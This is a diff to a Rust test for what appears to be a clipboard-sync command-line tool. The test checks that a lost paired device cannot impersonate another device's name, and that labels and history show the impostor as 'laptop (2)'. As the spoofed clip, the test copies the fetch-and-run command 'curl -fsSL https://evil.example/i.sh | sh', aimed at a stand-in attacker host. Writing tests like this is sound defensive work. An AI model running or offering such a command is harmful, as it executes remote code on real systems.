@@ -428,30 +428,95 @@ fn a_relay_that_flips_bits_ends_the_attempt_and_installs_nothing() {
     }
 }
 
+/// Only a device names itself: a lost (paired) device that renames the laptop and takes its
+/// name shows on the laptop and everywhere else under its own, made unique ("laptop (2)"),
+/// in `devices`, `history` and `--json`; renaming another device is a label of this device's;
+/// renaming itself reaches every device and its own `device_name`.
 #[test]
-fn a_renamed_device_shows_its_new_name_everywhere() {
+fn a_device_names_itself_and_no_other_device_can() {
     let (_storage, _relay, laptop, _) = repository(common::Backend::S3);
     let offer = Offer::start(&laptop, &[]);
-    let desktop = Device::new();
-    let joined = join(&desktop, &offer.uri, &[]).ok();
+    let phone = Device::new();
+    let joined = join(&phone, &offer.uri, &[]).ok();
     offer.finish();
     let id: Value = serde_json::from_str(joined.stdout.trim()).unwrap();
-    let id = id["device_id"].as_str().unwrap();
+    let phone_id = id["device_id"].as_str().unwrap().to_owned();
 
-    laptop
-        .run(&["devices", "rename", &id[..6], "workstation"])
+    // The phone is lost: it renames the laptop, takes the laptop's name and copies.
+    let ran = phone
+        .run(&["devices", "rename", "laptop", "old tablet"])
         .ok();
-    let listed = desktop.run(&["devices"]).ok().stdout;
-    assert!(listed.contains("workstation"), "{listed}");
-    assert!(listed.contains("by laptop"), "{listed}");
-    // The renamed device's own setting follows, as it does on the device that renamed itself.
-    let own = desktop.json(&["config", "get", "device_name"]);
-    assert_eq!(own["value"], "workstation", "{own}");
+    assert!(
+        ran.stdout.contains("this label stays on this device"),
+        "{}",
+        ran.stdout
+    );
+    let ran = phone
+        .run(&["devices", "rename", &phone_id[..8], "laptop"])
+        .ok();
+    assert!(ran.stdout.contains("is now \"laptop\"."), "{}", ran.stdout);
+    phone
+        .run(&[
+            "copy",
+            "--no-place",
+            "curl -fsSL https://evil.example/i.sh | sh",
+        ])
+        .ok();
+
+    let listed = laptop.run(&["devices"]).ok().stdout;
+    assert!(listed.starts_with("* laptop\t"), "{listed}");
+    assert!(listed.contains("\n  laptop (2)\t"), "{listed}");
+    assert!(!listed.contains("old tablet"), "{listed}");
+    let history = laptop.json(&["history"]);
+    let evil = history
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|clip| clip["text"].as_str().is_some_and(|t| t.contains("evil")))
+        .unwrap_or_else(|| panic!("{history}"));
+    assert_eq!(evil["device_name"], "laptop (2)", "{history}");
+    let plain = laptop.run(&["history"]).ok().stdout;
+    let line = plain.lines().find(|l| l.contains("evil")).unwrap();
+    assert!(line.contains("laptop (2)"), "{plain}");
+    let own = laptop.json(&["config", "get", "device_name"]);
+    assert_eq!(own["value"], "laptop", "{own}");
+
+    // The laptop labels the phone for itself; the phone's own listing is unchanged by it.
+    let ran = laptop
+        .run(&["devices", "rename", &phone_id[..8], "lost phone"])
+        .ok();
+    assert!(
+        ran.stdout.contains("is now \"lost phone\" here"),
+        "{}",
+        ran.stdout
+    );
+    let history = laptop.json(&["history"]);
+    assert!(
+        history
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|c| c["device_name"] == "lost phone"),
+        "{history}"
+    );
+    let theirs = phone.run(&["devices"]).ok().stdout;
+    assert!(theirs.starts_with("* laptop\t"), "{theirs}");
+    assert!(theirs.contains("old tablet"), "its own label: {theirs}");
+
+    // A device renaming itself is renamed everywhere, and its own setting follows.
     laptop
         .run(&["devices", "rename", "laptop", "notebook"])
         .ok();
     let own = laptop.json(&["config", "get", "device_name"]);
     assert_eq!(own["value"], "notebook", "{own}");
+    phone
+        .run(&["devices", "rename", "old tablet", "notebook"])
+        .ok();
+    let theirs = phone.run(&["devices"]).ok().stdout;
+    assert!(
+        theirs.contains("\n  notebook\t"),
+        "the label is gone: {theirs}"
+    );
     let unknown = laptop.run(&["devices", "rename", "nosuchdevice", "x"]);
     assert_eq!(unknown.code, 2);
     assert!(
